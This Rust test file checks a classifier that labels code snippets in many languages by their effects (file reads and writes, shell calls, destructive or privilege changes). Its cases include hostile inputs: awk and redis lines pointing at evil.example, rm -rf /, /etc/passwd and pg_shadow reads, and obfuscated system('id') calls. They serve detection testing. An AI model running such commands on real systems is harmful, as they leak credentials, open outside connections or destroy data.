//! What code means, as tables of cases: the code, and what a reader must find.

use super::{CodeEffects, read_text};

/// `reads a`, `writes b`, `reads c with *.d`, `shell e`, `sends`, `destroys`, `rights`, `doubt`, in this order.
fn shown(found: &CodeEffects) -> String {
    let mut parts: Vec<String> = Vec::new();
    parts.extend(found.reads.iter().map(|path| format!("reads {path}")));
    parts.extend(found.writes.iter().map(|path| format!("writes {path}")));
    parts.extend(found.trees.iter().map(|(action, path, glob)| format!("{}s {path} with {glob}", action.as_str())));
    parts.extend(found.shell.iter().map(|source| format!("shell {source}")));
    for (flag, name) in [(found.sends, "sends"), (found.destroys, "destroys"), (found.rights, "rights")] {
        parts.extend(flag.then(|| name.to_owned()));
    }
    parts.extend((!found.doubts.is_empty()).then(|| "doubt".to_owned()));
    parts.join(", ")
}

#[track_caller]
fn check(language: &str, cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(code, expected)| {
            let found = read_text(language, code);
            let shown = shown(&found);
            (shown != *expected)
                .then(|| format!("{code}\n    expected `{expected}`, found `{shown}` {:?}", found.doubts))
        })
        .collect();
    assert!(wrong.is_empty(), "{language}:\n{}", wrong.join("\n"));
}

#[test]
fn sed_scripts() {
    check(
        "sed",
        &[
            ("s/a/b/", ""),
            ("s/a/b/g;s|x|y|2p", ""),
            ("1,10p", ""),
            ("$d", ""),
            ("/a/,/b/{s/x/y/;p}", ""),
            ("/a/!d", ""),
            ("\\,a,d", ""),
            ("0~3p", ""),
            ("1i\\\nw out", ""),
            ("a some text; w out", ""),
            (":a;N;$!ba;s/\\n/ /g", ""),
            ("y/abc/xyz/", ""),
            ("$=", ""),
            ("5q", ""),
            ("# w out", ""),
            ("w out", "writes out"),
            ("/x/w out;p", "writes out;p"),
            ("s/a/b/w out", "writes out"),
            ("s/a/b/gw out file", "writes out file"),
            ("1W out", "writes out"),
            ("r secret", "reads secret"),
            ("$!{\nR secret\n}", "reads secret"),
            ("1e id", "shell id"),
            ("e", "doubt"),
            ("s/a/b/e", "doubt"),
            ("s/a/b/ge", "doubt"),
            ("s,x,id,e", "doubt"),
            ("s/[/]/b/w x", "doubt"),
            ("s/a/b", "doubt"),
            ("k", "doubt"),
            ("p w out", "doubt"),
            ("s/\\//x/;w out", "writes out"),
            ("s/a\\/w x\\/b/c/", ""),
        ],
    );
}

#[test]
fn awk_programs() {
    check(
        "awk",
        &[
            ("{print $1}", ""),
            ("$1 > 5", ""),
            ("$1 > 5 {print}", ""),
            ("{print ($1 > 5)}", ""),
            ("{ if ($1 > 5) print $2 }", ""),
            ("/a|b/ {print $1/2}", ""),
            ("/[/|]/", ""),
            ("BEGIN{FS=\"|\"} $2 ~ /x>y/ {n++} END{print n}", ""),
            ("{a[$1] += $2} END {for (k in a) print k, a[k]}", ""),
            ("$1 || $2 && $3 >= 4", ""),
            ("{print > \"out\"}", "writes out"),
            ("{print $1, $2 >> \"out\"}", "writes out"),
            ("{print(1)(2) > \"out\"; x = 1 > 2}", "writes out"),
            ("{printf \"%s\", $1 > \"/dev/stderr\"}", "writes /dev/stderr"),
            ("{print > $1}", "doubt"),
            ("{print > \"out\" $1}", "doubt"),
            ("{print | \"sort\"}", "shell sort"),
            ("{\"date\" | getline d; print d}", "shell date"),
            ("{x \"date\" | getline d}", "doubt"),
            ("{print | cmd}", "doubt"),
            ("BEGIN{system(\"id\")}", "shell id"),
            ("BEGIN{system(\"id \" $1)}", "doubt"),
            ("BEGIN{while ((getline line < \"secret\") > 0) print line}", "reads secret"),
            ("BEGIN{getline < ARGV[1]}", "doubt"),
            ("BEGIN{getline x < f}", "doubt"),
            ("BEGIN{print \"x\" |& \"/inet/tcp/0/evil.example/80\"}", "doubt"),
            ("{print > \"/inet/tcp/0/evil.example/80\"}", "doubt"),
            ("@load \"filefuncs\"", "doubt"),
            ("BEGIN{f=\"system\"; @f(\"id\")}", "doubt"),
            ("BEGIN{ARGV[1]=\"/etc/passwd\"; ARGC=2}", "doubt"),
            ("{print \"a > b | c\"}", ""),
            ("{print \"unterminated}", "doubt"),
            ("{print $1,\n$2 > \"out\"}", "writes out"),
            ("{if (1) /\"/; system(\"id\"); /\"/}", "doubt"),
            ("{print ($1 + $2) / 2}", ""),
        ],
    );
}

#[test]
fn jq_filters() {
    check(
        "jq",
        &[
            (".", ""),
            (".a.b[0] | select(.c > 1)", ""),
            (".env", ""),
            ("\"env \\(.a) system\"", ""),
            ("{a: .b, \"c\": \"env\"}", ""),
            ("env.PATH", "doubt"),
            ("$ENV.TOKEN", "doubt"),
            ("\"x \\(env.TOKEN)\"", "doubt"),
            ("\"a \\(\"b \\(env)\")\"", "doubt"),
            ("import \"a\" as a; .", "doubt"),
            ("load(\"secret\")", "doubt"),
            ("strenv(TOKEN)", "doubt"),
            ("\"unterminated", "doubt"),
        ],
    );
}

#[test]
fn sql_statements() {
    check(
        "sql",
        &[
            ("select 1", ""),
            ("SELECT count(*), max(x) FROM t WHERE a IN (1, 2);", ""),
            ("select 'drop table t'; -- delete from t", ""),
            ("select \"drop\" from t /* truncate */", ""),
            ("with x as (select 1) select * from x", ""),
            ("with x as (delete from t returning *) select * from x", "destroys"),
            ("explain delete from t", ""),
            ("explain analyze delete from t", "destroys"),
            ("drop table t; explain select 1", "destroys"),
            ("select 1 drop table t", "destroys"),
            ("begin drop table t; end", "destroys"),
            ("select 1 \\! id", "doubt"),
            ("show tables", ""),
            ("select * from t for update", ""),
            ("insert into t (a) values (1)", "sends"),
            ("update t set a = 1 where b = 2", "sends"),
            ("update t set a = 1", "sends, destroys"),
            ("delete from t where id = 1", "destroys"),
            ("select 1; drop table t", "destroys"),
            ("truncate t", "destroys"),
            ("alter table t drop column a", "sends, destroys"),
            ("create table t (a int)", "sends"),
            ("grant all on t to x", "sends, rights"),
            ("create user x", "sends, rights"),
            ("select * into new from t", "sends"),
            ("select delete_everything()", "sends"),
            ("exec xp_cmdshell 'dir'", "doubt"),
            ("select 1 /*! ; drop table t */", "doubt"),
            ("select 'a\\' ; drop table t; --'", "doubt"),
            ("frobnicate", "doubt"),
            ("-- drop table t", "doubt"),
            ("select usename, passwd from pg_shadow", "doubt"),
            ("select user, authentication_string from mysql.user", "doubt"),
            ("select * from mysql . user", "doubt"),
            ("select user, host from mysql.user", ""),
            ("create function f() returns int as 'x'", "sends, doubt"),
            ("call f()", "sends, doubt"),
        ],
    );
}

#[test]
fn psql_commands() {
    check(
        "psql",
        &[
            ("\\dt", ""),
            ("\\d+ users", ""),
            ("\\l", ""),
            ("select $$ drop table t; \\! id $$", ""),
            ("select $a$ ; drop table t $a$", ""),
            ("\\! id", "shell id"),
            ("select 1; \\! rm -rf /", "shell rm -rf /"),
            ("\\copy t to 'out.csv'", "writes out.csv"),
            ("\\copy t from 'in.csv'", "reads in.csv, sends"),
            ("\\copy t to program 'sh'", "doubt"),
            ("copy t to program 'sh'", "doubt"),
            ("copy t from '/etc/passwd'", "doubt"),
            ("copy t to stdout", ""),
            ("\\o out", "writes out"),
            ("\\o |sh", "doubt"),
            ("select 1 \\g |sh", "doubt"),
            ("select 'x' \\gexec", "doubt"),
            ("\\i evil.sql", "doubt"),
            ("\\set x `id`", "doubt"),
            ("select pg_read_file('/etc/passwd')", "doubt"),
            ("select lo_import('/etc/passwd')", "doubt"),
            ("select pg_size_pretty(pg_database_size('x'))", ""),
        ],
    );
}

#[test]
fn mysql_commands() {
    check(
        "mysql",
        &[
            ("select 1\\G", ""),
            ("show databases", ""),
            ("\\! id", "shell id"),
            ("system id", "doubt"),
            ("source evil.sql", "doubt"),
            ("pager sh", "doubt"),
            ("use app\nsystem id", "doubt"),
            ("status\nsystem id", "doubt"),
            ("use app; show tables", ""),
            ("select * from t into outfile '/tmp/x'", "doubt"),
            ("load data local infile 'secret' into table t", "reads secret, sends"),
            ("load data infile 'secret' into table t", "doubt"),
            ("select load_file('/etc/passwd')", "doubt"),
            ("select 1 # drop table t", ""),
            ("select \"a; drop table t\"", ""),
            ("drop database app", "destroys"),
        ],
    );
}

#[test]
fn sqlite_commands() {
    check(
        "sqlite",
        &[
            (".tables", ""),
            (".schema users", ""),
            ("select * from t; .shell id", "doubt"),
            (".shell id", "shell id"),
            ("select 1;\n.system rm x", "shell rm x"),
            (".output out", "writes out"),
            (".once |sh", "doubt"),
            (".read evil.sql", "doubt"),
            (".import --csv in.csv t", "reads in.csv, sends"),
            (".load ./evil", "doubt"),
            (".backup copy.db", "writes copy.db"),
            ("attach 'other.db' as o", "reads other.db, writes other.db"),
            ("vacuum into 'copy.db'", "writes copy.db, sends"),
            ("select load_extension('x')", "doubt"),
            ("select readfile('secret')", "doubt"),
            ("select writefile('x', 'y')", "doubt"),
            ("pragma table_info(t)", ""),
            ("pragma journal_mode", ""),
            ("pragma journal_mode = wal", "sends"),
            ("pragma optimize", "sends"),
            ("pragma temp_store_directory = 'x'", "sends, doubt"),
            ("insert into t values (1)", "sends"),
            ("attach 'a' || 'b' as o", "doubt"),
            ("attach 'file:x?mode=rw' as o", "doubt"),
            ("vacuum into 'a' || 'b'", "sends, doubt"),
            (".import --skip 1 in.csv t", "reads in.csv, sends"),
            (".import --schema a in.csv t", "doubt"),
            (".once -x", "doubt"),
            (".open file:x?vfs=y", "doubt"),
        ],
    );
    check(
        "duckdb",
        &[
            ("select upper(name), count(*) from t where a like '%x/y%' group by all", ""),
            ("set threads = 4", "sends"),
            ("set global memory_limit = '4GB'", "sends, rights"),
            ("pragma table_info('t')", ""),
            ("set home_directory = 'x'", "sends, doubt"),
            ("reset custom_user_agent", "sends, doubt"),
            ("pragma import_database('x')", "sends, doubt"),
            ("describe 'a/b.parquet'", "reads a/b.parquet"),
            ("show \"b.parquet\"", "reads b.parquet"),
            ("select * from t, 'b.parquet'", "reads b.parquet"),
            ("insert into t (a) from '../b.json'", "reads ../b.json, sends"),
            ("from b.parquet", "doubt"),
            ("from b.\"parquet\"", "doubt"),
            ("from 'b' '.parquet'", "reads .parquet, doubt"),
            ("from e'\\x62.parquet'", "doubt"),
            ("from 'b?.parquet'", "doubt"),
            ("from 'dir/[a-c].csv'", "doubt"),
            ("from mysql_query('a', 'b')", "sends, doubt"),
            ("create table x as from iceberg_scan('b')", "sends, doubt"),
            ("copy (from iceberg_scan('b')) to 'x.csv'", "writes x.csv, doubt"),
            ("copy (select 1 from 'b.csv') to ('a' || 'b')", "reads b.csv, doubt"),
            ("copy t to 'x.csv' (format csv, header)", "writes x.csv"),
            ("copy t to 'x' (format csv, per_thread_output true)", "doubt"),
            ("select current_setting('s3_access_key_id')", "doubt"),
            ("attach 'host=db.example' as p (type postgres)", "doubt"),
            ("attach 'b' as p (type sqlite)", "doubt"),
            ("attach 'b.db' as p (read_only)", "reads b.db, reads b.db, writes b.db"),
            ("explain analyze from t", ""),
            ("explain analyze copy t to 'x'", "doubt"),
            ("explain (format json) copy t to 'x'", "doubt"),
            ("update extensions", "sends, destroys, doubt"),
            ("select * from 'data.csv'", "reads data.csv"),
            ("select * from read_csv('data.csv')", "reads data.csv, doubt"),
            ("copy t to 'out.csv'", "writes out.csv"),
            ("install httpfs", "doubt"),
        ],
    );
}

#[test]
fn mongo_calls() {
    check(
        "mongo",
        &[
            ("db.users.find({age: {$gt: 5}}).limit(5)", ""),
            ("show dbs", ""),
            ("db.getCollection(\"x\").countDocuments({})", ""),
            ("db.users.drop()", "destroys"),
            ("db.users.deleteMany({})", "destroys"),
            ("db.dropDatabase()", "destroys"),
            ("db.users.insertOne({a: 1})", "sends"),
            ("db.users.aggregate([{$match: {}}, {$out: \"x\"}])", "destroys"),
            ("db.users.find({$where: \"x\"})", "doubt"),
            ("load(\"x.js\")", "doubt"),
            ("db.system.users.find()", "doubt"),
            ("db.getUsers({showCredentials: true})", "doubt"),
            ("process.exit()", "doubt"),
            ("db[\"drop\"]()", "doubt"),
            ("db.x[\"drop\"]\n()", "doubt"),
            ("db.x.drop\n()", "destroys"),
            ("db.x.find({\"\\u0024where\": 1})", "doubt"),
            ("db.users.find().forEach(function(x) { x })", "doubt"),
            ("eval(\"x\")", "doubt"),
        ],
    );
}

#[test]
fn redis_commands() {
    check(
        "redis",
        &[
            ("GET key", ""),
            ("keys *", ""),
            ("config get maxmemory", ""),
            ("config get requirepass", "doubt"),
            ("CONFIG GET *", "doubt"),
            ("CONFIG GET master*", "doubt"),
            ("ACL LIST", "doubt"),
            ("ACL WHOAMI", ""),
            ("SET key value", "sends"),
            ("DEL key", "destroys"),
            ("FLUSHALL", "destroys"),
            ("CONFIG SET dir /root/.ssh", "doubt"),
            ("EVAL script 0", "doubt"),
            ("MODULE LOAD x.so", "doubt"),
            ("SLAVEOF evil.example 6379", "doubt"),
            ("GET a\nDEL b", "destroys"),
        ],
    );
}

#[test]
fn python_one_liners() {
    check(
        "python",
        &[
            ("print(1 + 1)", ""),
            ("import sys; print(sys.version)", ""),
            ("import json,sys\nd = json.load(sys.stdin)\nfor x in d['a']:\n    print(x.get('b'), len(d))", ""),
            ("import sys,json; print(json.dumps(json.load(sys.stdin), indent=2))", ""),
            ("print([x for x in range(5) if x % 2])", ""),
            ("x = 3\nprint(f\"{x} and {x:>5}\")", ""),
            ("import json; print(json.load(open('package.json'))['version'])", "reads package.json"),
            ("open('out', 'w').write('x')", "writes out"),
            ("with open('a', encoding='utf-8') as f:\n    print(f.read())", "reads a"),
            ("import os; print(os.getcwd(), os.path.join('a', 'b'))", ""),
            ("import sys; print(sys.path)", ""),
            ("import numpy; print(numpy.__version__)", "doubt"),
            ("import numpy as np, sys; print(np.__version__)", "doubt"),
            ("import numpy as np; print(np.__version__)", "doubt"),
            ("import torch; print(torch.__version__, torch.cuda.is_available())", "doubt"),
            ("import torch; torch.load('x')", "doubt"),
            ("import torch; print(f'torch {torch.__version__}')", "doubt"),
            ("for i in (1, 2):\n    if i == 2: t.load('x')\n    import torch as t", "doubt"),
            ("import numpy; n = numpy; n.load('x')", "doubt"),
            ("import numpy as json; json.load('x')", "doubt"),
            ("json = 1; import numpy as json; json.load('x')", "doubt"),
            ("import evil; print(evil.__version__)", "doubt"),
            ("import sqlite3; print(sqlite3.sqlite_version)", ""),
            ("print('{} and {name:>8} {0!r}'.format(1, name=2))", ""),
            ("import sys; print('{0.modules}'.format(sys))", "doubt"),
            ("print('{0[x]}'.format({'x': 1}))", "doubt"),
            ("x = '{0.modules}'; print(x.format(1))", "doubt"),
            ("print('{x}'.format_map({'x': 1}))", "doubt"),
            ("import yaml; print(yaml.safe_load(open('a.yml')))", "doubt"),
            ("import yaml; yaml.load(open('a.yml'))", "doubt"),
            ("import importlib.metadata as m; print(m.version('x'))", ""),
            ("import importlib.metadata; print(importlib.metadata.version('x'))", ""),
            ("import importlib.metadata; importlib.import_module('x')", "doubt"),
            ("from importlib.metadata import version; print(version('x'))", ""),
            ("from importlib.metadata import entry_points", "doubt"),
            ("import ast; ast.parse(open('a.py').read())", "reads a.py"),
            ("import csv; r = list(csv.reader(open('a.csv'))); print(len(r), r[0])", "reads a.csv"),
            ("import tomllib; print(tomllib.load(open('a.toml', 'rb'))['x'])", "reads a.toml"),
            ("import os; print(os.path.exists('a'), os.path.getsize('b'))", "reads a, reads b"),
            ("import os; print(os.path.exists(x))", "doubt"),
            ("import os; print(sorted(os.listdir('src')), os.listdir())", "reads src, reads ."),
            ("import glob; print(glob.glob('*.py'))", "reads ."),
            ("import glob; glob.os.remove('x')", "doubt"),
            ("import glob; [open(x) for x in glob.glob('*')]", "reads ., reads . with *"),
            (
                "import glob\nfor x in glob.glob('src/**/*.py', recursive=True):\n  print(open(x).read())",
                "reads src, reads src with **/*.py",
            ),
            ("import sqlite3; print(sqlite3.sqlite_version)", ""),
            ("import sqlite3; sqlite3.connect('x')", "doubt"),
            ("from pathlib import Path; print(Path('a').read_text()[:9])", "reads a"),
            ("from pathlib import Path; print((Path('a') / 'b').read_text())", "doubt"),
            ("from pathlib import Path; Path('a').write_text('x')", "writes a"),
            ("from pathlib import Path; p = Path('a'); p.unlink()", "doubt"),
            ("from pathlib import Path; p = Path; p('a').read_text()", "doubt"),
            ("import os; os.replace('a', 'b')", "doubt"),
            ("import os; o = os; o.replace('a', 'b')", "doubt"),
            ("import os; p = os.path; p.os.system('id')", "doubt"),
            ("import os; print(os.environ)", "doubt"),
            ("import sys; sys.path.insert(0, 'x'); import json", "doubt"),
            ("import sys; p = sys.path; p.insert(0, 'x'); import json", "doubt"),
            ("open(x)", "doubt"),
            ("open('a' + 'b')", "doubt"),
            ("import os; os.system('id')", "doubt"),
            ("import subprocess", "doubt"),
            ("__import__('os').system('id')", "doubt"),
            ("eval('1')", "doubt"),
            ("f = open; f('x')", "doubt"),
            ("print(().__class__.__bases__)", "doubt"),
            ("import sys; sys.modules['os'].system('id')", "doubt"),
            ("import json; json.codecs.open('x')", "doubt"),
            ("print(f\"{__import__('os').system('id')}\")", "doubt"),
            ("getattr(x, 'y')", "doubt"),
            ("import sys as s; s.exit()", "doubt"),
            ("from os import system; system('id')", "doubt"),
            ("print = exec; print('x')", "doubt"),
            ("open('\\x2fetc/passwd')", "reads \u{0}2fetc/passwd"),
        ],
    );
}

#[test]
fn paths_in_python() {
    let from = "from pathlib import Path\n";
    let known = [
        (
            "for p in Path('src').rglob('*.ts'):\n    t = p.read_text()\n    if t != 'x':\n        p.write_text(t.replace('a', 'b'))\n        print('did', p)",
            "reads src, reads src with *.ts, writes src with *.ts",
        ),
        (
            "import ast, pathlib\nfor p in sorted(pathlib.Path('app').rglob('*.py')):\n    tree = ast.parse(p.read_text())\n    print(p, [n.name for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)])",
            "reads app, reads app with *.py",
        ),
        ("root = Path('src')\nfor p in root.iterdir():\n    print(p.name, p.stat().st_size)", "reads src"),
        (
            "root = Path('a')\nfiles = list(root.glob('*.md'))\nfor f in files:\n    with open(f) as h: print(h.read())",
            "reads a, reads a with *.md",
        ),
        (
            "print(sum(len(p.read_text().splitlines()) for p in Path('src').rglob('*.py') if p.is_file()))",
            "reads src, reads src with *.py",
        ),
        ("print([p.name for p in Path('docs').glob('*.md')])", "reads docs"),
        ("for i, p in enumerate(sorted(Path('a').glob('*'))):\n  print(i, p.stem)", "reads a"),
        ("p = Path('a') / 'b.txt'\np.write_text(p.read_text().upper())", "reads a/b.txt, writes a/b.txt"),
        (
            "p = Path('a.json')\nimport json\nd = json.loads(p.read_text())\nd['version'] = '2'\np.write_text(json.dumps(d, indent=2))",
            "reads a.json, writes a.json",
        ),
        (
            "n = {}\nfor p in Path('src').rglob('*.rs'):\n    n[p] = len(p.read_text())\nfor k, v in n.items(): print(k, v)",
            "reads src, reads src with *.rs",
        ),
        ("with Path('a').open('w') as f:\n    f.write('x')", "reads a, writes a"),
        ("x = 'abc'\nprint(f'{len(x)} {x.upper()}')", ""),
    ];
    let doubtful = [
        "for p in list(Path('a').glob('*')) + ['/etc/passwd']:\n  print(open(p).read())",
        "for p in Path('a').glob('*') if 0 else ['/etc/passwd']: print(open(p).read())",
        "for p in Path('a').glob('*'), ['/etc/passwd']: print(open(p).read())",
        "for p in Path('a').glob('../*'): print(p.read_text())",
        "for p in Path('a').glob('*'): pass\np = '/etc/passwd'\nprint(open(p).read())",
        "for p in Path('a').glob('*'): pass\nq = p = '/etc/passwd'\nprint(open(p).read())",
        "for p in Path('a').glob('*'): pass\np: str = '/etc/passwd'\nprint(open(p).read())",
        "for p in Path('a').glob('*'): pass\na, p, b = 1, '/etc/passwd', 2\nprint(open(p).read())",
        "for p in Path('a').glob('*'): pass\n[p, b] = ['/etc/passwd', 2]\nprint(open(p).read())",
        "for p in Path('a').glob('*'): pass\n(p) = '/etc/passwd'\nprint(open(p).read())",
        "for p in Path('a').glob('*'): pass\nprint(p := '/etc/passwd', open(p).read())",
        "for p in Path('a').glob('*'): pass\nprint(f\"{(p := '/etc/passwd')}\", open(p).read())",
        "for p in Path('a').glob('*'): pass\nprint(f\"{[open(p) for p in ['/etc/passwd']]}\")",
        "for p in Path('a').glob('*'): pass\nprint([open(p) for p in ['/etc/passwd']])",
        "for p in Path('a').glob('*'): pass\np /= '/etc/passwd'\nprint(open(p).read())",
        "for p in Path('a').glob('*'): pass\nif 1: p = '/etc/passwd'\nprint(open(p).read())",
        "for p in Path('a').glob('*'): pass\nfor (i, p) in [(1, '/etc/passwd')]: print(open(p).read())",
        "for p in Path('a').glob('*'): pass\nmatch = case = 1\nmatch '/etc/passwd':\n  case p: print(open(p).read())",
        "for p in Path('a').glob('*'): pass\nprint((lambda p: open(p).read())('/etc/passwd'))",
        "list = lambda x: ['/etc/passwd']\nfor p in list(Path('a').glob('*')): print(open(p).read())",
        "Path = lambda x: x\nPath('a').read_text()",
        "p = Path('a')\np.replace('b')",
        "q = Path('a').parent\nq.replace('b')",
        "q = [Path('a')]\nq[0].replace(*['b'])",
        "q = Path('a').parent\nf = q.replace\nf('b')",
        "q = Path('a').parent\nq.copy('b')",
        "p = Path('a')\np.unlink()",
        "p = Path('a')\np.parent.write_text('x')",
        "p = Path('a').parent\np.write_text('x')",
        "p = Path('a')\np.chmod(511)",
        "p = Path('a')\nprint(p.__class__)",
        "p = Path(x)\nprint(p.read_text())",
        "p = Path('a', 'b')\nprint(p.read_text())",
        "for p in Path.home().glob('*'): print(p.read_text())",
        "for p in Path('~').expanduser().glob('*'): print(p.read_text())",
        "for p in map(Path, ['/etc/passwd']): print(p.read_text())",
        "p = type(Path('a'))('/etc/passwd')\nprint(p.read_text())",
        "p = Path('a')\np = p.parent\nprint(p.read_text())",
        "a = Path('a')\nb = a\nb = '/etc/passwd'\nc = b\nprint(open(c).read())",
        "import glob\nfor p in glob.glob('a/*/../../x'): print(open(p).read())",
        "import pathlib as q\nprint(q.Path('a').read_text())",
        "import pathlib; pathlib.os.system('id')",
    ];
    let known: Vec<(String, &str)> = known.iter().map(|(code, effects)| (format!("{from}{code}"), *effects)).collect();
    let doubtful = doubtful.iter().map(|code| (format!("{from}{code}"), "doubt"));
    let cases: Vec<(String, &str)> = known.into_iter().chain(doubtful).collect();
    let cases: Vec<(&str, &str)> = cases.iter().map(|(code, effects)| (code.as_str(), *effects)).collect();
    check("python", &cases);
}

#[test]
fn key_bindings_of_fzf() {
    check(
        "fzf",
        &[
            ("ctrl-a:select-all,ctrl-d:deselect-all", ""),
            ("enter:accept+abort", ""),
            ("x:change-prompt(a, b> )+put(x),y:up", ""),
            ("x:execute(rm a)+reload(ls),y:up", "shell rm a, shell ls"),
            ("x:execute-silent~rm a~", "shell rm a"),
            ("x:reload:rm a,y:up", "shell rm a,y:up"),
            ("x:transform(echo {1})", "shell echo \"$callgate_chosen_line\""),
            ("x:execute(echo {+})", "doubt"),
            ("x:execute(echo \"{}\")", "doubt"),
            ("x:frobnicate(rm a)", "doubt"),
            ("x:execute(rm a", "doubt"),
            ("accept", "doubt"),
        ],
    );
}

#[test]
fn perl_one_liners() {
    check(
        "perl",
        &[
            ("s/a/b/g", ""),
            ("print if /x/", ""),
            ("print \"$1\\n\" if /(\\d+)/", ""),
            ("tr/a-z/A-Z/; print", ""),
            ("print $. if $. == 3", ""),
            ("print time, \"\\n\"", ""),
            ("print for sort { $a <=> $b } @x", ""),
            ("print sprintf('%d', 3)", ""),
            ("s/a/system('id')/e", "doubt"),
            ("system('id')", "doubt"),
            ("print `id`", "doubt"),
            ("open(F, 'x')", "doubt"),
            ("print \"@{[ `id` ]}\"", "doubt"),
            ("print <F>", "doubt"),
            ("exec 'id'", "doubt"),
            ("unlink 'x'", "doubt"),
            ("print $ENV{TOKEN}", "doubt"),
            ("/(?{ system('id') })/", "doubt"),
            ("qx(id)", "doubt"),
            ("&{\"system\"}('id')", "doubt"),
            ("print F 'x'", "doubt"),
            ("print \"$x and @list, $& a\\@b\"", ""),
            ("s/^(\\w+)$/<$1>/", ""),
            ("print \"$x{unlink 'y'}\"", "doubt"),
            ("print \"@list[unlink 'y']\"", "doubt"),
            ("s/$x->[unlink 'y']/b/", "doubt"),
            ("print \"$x::y\"", "doubt"),
        ],
    );
}

#[test]
fn node_ruby_and_php_one_liners() {
    check(
        "node",
        &[
            ("console.log(1 + 1)", ""),
            ("console.log(process.version)", ""),
            ("console.log(require('./package.json').version)", "reads ./package.json"),
            ("console.log(JSON.parse(require('fs').readFileSync('a.json', 'utf8')).name)", "reads a.json"),
            ("const x = [1,2].map(y => y * 2); console.log(x.join(','))", ""),
            ("console.log(JSON.stringify({a: 1, b: [2]}, null, 2))", ""),
            ("os.cpus().length", ""),
            ("require('os').totalmem() / 2", ""),
            ("require('path').basename('/a/b')", ""),
            ("const o = require('os'); o.constructor", "doubt"),
            ("['x'].map({eval: 1})", "doubt"),
            ("['x'].map(1 ? eval : 0)", "doubt"),
            ("require('child_process').execSync('id')", "doubt"),
            ("require('./evil')", "doubt"),
            ("process.env.TOKEN", "doubt"),
            ("[].constructor.constructor('x')()", "doubt"),
            ("[]['constructor']('x')", "doubt"),
            ("eval('x')", "doubt"),
            ("console.log(`${eval('x')}`)", "doubt"),
            ("import('fs')", "doubt"),
            ("[1].map(eval => 1); ['x'].map(eval)", "doubt"),
            ("const f = 1; f('x')", "doubt"),
            ("console.log(process)", "doubt"),
            ("require('fs').writeFileSync('x', 'y')", "doubt"),
            ("const a = [[1, 2]]; console.log(a[0][1], [3][0])", ""),
            ("const a = []; console.log(a['at'])", "doubt"),
            ("const k = 'at'; console.log([][k])", "doubt"),
            ("[1].map(''['at']['constructor'])", "doubt"),
        ],
    );
    check(
        "ruby",
        &[
            ("puts 1 + 1", ""),
            ("puts RUBY_VERSION", ""),
            ("puts [1,2].map { |x| x + 1 }.join(',')", ""),
            ("puts 1|system('id')", "doubt"),
            ("[1].each { |system| 1 }; system 'id'", "doubt"),
            ("system('id')", "doubt"),
            ("puts `id`", "doubt"),
            ("puts \"#{`id`}\"", "doubt"),
            ("%x(id)", "doubt"),
            ("File.read('x')", "doubt"),
            ("Kernel.send(:system, 'id')", "doubt"),
        ],
    );
    check(
        "php",
        &[
            ("echo PHP_VERSION;", ""),
            ("$x = 3; echo $x + 1;", ""),
            ("system('id');", "doubt"),
            ("$f = 'system'; $f('id');", "doubt"),
            ("$f = 'system'; $f ('id');", "doubt"),
            ("'system'('id');", "doubt"),
            ("echo `id`;", "doubt"),
            ("echo \"{$f('id')}\";", "doubt"),
            ("echo file_get_contents('x');", "doubt"),
            ("include 'x';", "doubt"),
        ],
    );
}

#[test]
fn vim_commands() {
    check(
        "vim",
        &[
            ("q!", ""),
            (":wq", ""),
            ("set number", ""),
            ("set nowrap", ""),
            ("%s/a/b/g", ""),
            ("42", ""),
            ("!id", "doubt"),
            (":!id", "doubt"),
            ("%s/a/\\=system('id')/", "doubt"),
            ("w !sh", "doubt"),
            ("source x", "doubt"),
            ("set shell=x", "doubt"),
            ("q | !id", "doubt"),
            ("py import os", "doubt"),
        ],
    );
}

proptest::proptest! {
    #[test]
    fn any_code_is_read_without_panic(code in "[a-z$@%(){}\\[\\]\"'`|<>/\\\\;:.,=!?#& \n-]{0,60}") {
        for language in ["sed", "awk", "jq", "sql", "psql", "mysql", "sqlite", "duckdb", "mongo", "redis", "python", "perl", "node", "ruby", "php", "vim"] {
            let _ = read_text(language, &code);
        }
    }
}
